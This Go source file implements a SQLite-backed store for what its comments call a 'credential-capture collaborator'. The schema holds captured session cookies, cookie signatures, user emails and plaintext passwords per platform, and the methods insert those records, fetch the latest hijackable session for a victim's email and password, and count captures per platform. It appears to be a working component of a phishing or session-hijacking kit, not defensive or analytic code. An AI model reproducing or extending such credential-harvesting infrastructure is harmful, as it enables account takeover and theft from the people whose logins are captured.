package kvstore

import (
	"context"
	"database/sql"
	"fmt"
	"time"

	"github.com/uptrace/bun"
	"github.com/uptrace/bun/dialect/sqlitedialect"
	_ "modernc.org/sqlite"
)

// sessionRow is the bun model backing the reference SQLite session table.
// This table belongs to the credential-capture collaborator in production;
// SQLStore exists so local development and integration tests have a
// persistent Store without standing up that collaborator.
type sessionRow struct {
	bun.BaseModel `bun:"table:sessions,alias:s"`

	ID                     int64     `bun:"id,pk,autoincrement"`
	Platform               string    `bun:"platform,notnull"`
	SessionCookie          string    `bun:"session_cookie,notnull"`
	SessionCookieSignature string    `bun:"session_cookie_signature"`
	UserNumericID          string    `bun:"user_numeric_id"`
	UserEmail              string    `bun:"user_email,notnull"`
	UserPassword           string    `bun:"user_password,notnull"`
	CapturedAt             time.Time `bun:"captured_at,notnull"`
}

// SQLStore is a bun/SQLite-backed reference implementation of Store.
type SQLStore struct {
	db *bun.DB
}

// OpenSQLStore opens (creating if necessary) a SQLite database at path and
// ensures the sessions table exists.
func OpenSQLStore(ctx context.Context, path string) (*SQLStore, error) {
	sqldb, err := sql.Open("sqlite", path)
	if err != nil {
		return nil, fmt.Errorf("kvstore: open sqlite: %w", err)
	}
	db := bun.NewDB(sqldb, sqlitedialect.New())

	if _, err := db.NewCreateTable().Model((*sessionRow)(nil)).IfNotExists().Exec(ctx); err != nil {
		return nil, fmt.Errorf("kvstore: create sessions table: %w", err)
	}

	return &SQLStore{db: db}, nil
}

// Close releases the underlying database handle.
func (s *SQLStore) Close() error {
	return s.db.Close()
}

// Put inserts a session row, as the credential-capture collaborator would.
func (s *SQLStore) Put(ctx context.Context, rec StoredSession) error {
	row := sessionRow{
		Platform:               rec.Platform,
		SessionCookie:          rec.SessionCookie,
		SessionCookieSignature: rec.SessionCookieSignature,
		UserNumericID:          rec.UserNumericID,
		UserEmail:              rec.UserEmail,
		UserPassword:           rec.UserPassword,
		CapturedAt:             rec.CapturedAt,
	}
	_, err := s.db.NewInsert().Model(&row).Exec(ctx)
	if err != nil {
		return fmt.Errorf("kvstore: insert session: %w", err)
	}
	return nil
}

func (s *SQLStore) GetLatestSessionForUser(ctx context.Context, platform, email, password string) (*StoredSession, error) {
	var row sessionRow
	err := s.db.NewSelect().
		Model(&row).
		Where("platform = ?", platform).
		Where("user_email = ?", email).
		Where("user_password = ?", password).
		OrderExpr("captured_at DESC").
		Limit(1).
		Scan(ctx)
	if err != nil {
		if err == sql.ErrNoRows {
			return nil, nil
		}
		return nil, fmt.Errorf("kvstore: query latest session: %w", err)
	}

	out := StoredSession{
		Platform:               row.Platform,
		SessionCookie:          row.SessionCookie,
		SessionCookieSignature: row.SessionCookieSignature,
		UserNumericID:          row.UserNumericID,
		UserEmail:              row.UserEmail,
		UserPassword:           row.UserPassword,
		CapturedAt:             row.CapturedAt,
	}
	return &out, nil
}

func (s *SQLStore) GetSessionStats(ctx context.Context) (Stats, error) {
	var rows []sessionRow
	if err := s.db.NewSelect().Model(&rows).Column("platform").Scan(ctx); err != nil {
		return Stats{}, fmt.Errorf("kvstore: query session stats: %w", err)
	}

	stats := Stats{PerPlatformCounts: make(map[string]int)}
	for _, r := range rows {
		stats.TotalSessions++
		stats.PerPlatformCounts[r.Platform]++
	}
	return stats, nil
}

var _ Store = (*SQLStore)(nil)
